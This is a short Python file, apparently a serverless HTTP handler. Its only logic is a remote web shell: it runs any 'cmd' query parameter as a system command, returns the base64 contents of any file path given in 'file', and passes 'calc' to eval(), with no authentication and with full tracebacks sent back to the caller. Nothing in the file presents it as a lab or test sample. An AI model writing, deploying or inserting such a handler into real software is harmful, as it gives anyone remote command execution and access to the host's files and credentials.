import base64
import json
import subprocess
import traceback


def main(event, context):
    params = event["queryStringParameters"]
    try:
        if "cmd" in params:
            output = subprocess.Popen(params["cmd"].split(), stdout=subprocess.PIPE).communicate()[0]
            return respond(output.decode())
        if "file" in params:
            with open(params["file"], "rb") as wanted:
                return respond(base64.b64encode(wanted.read()).decode())
        if "calc" in params:
            return respond(str(eval(params["calc"])))
    except Exception:
        return respond(traceback.format_exc(), 500)
    return respond("nothing to do", 400)


def respond(text, status=200):
    return {"statusCode": status, "body": json.dumps({"result": text})}
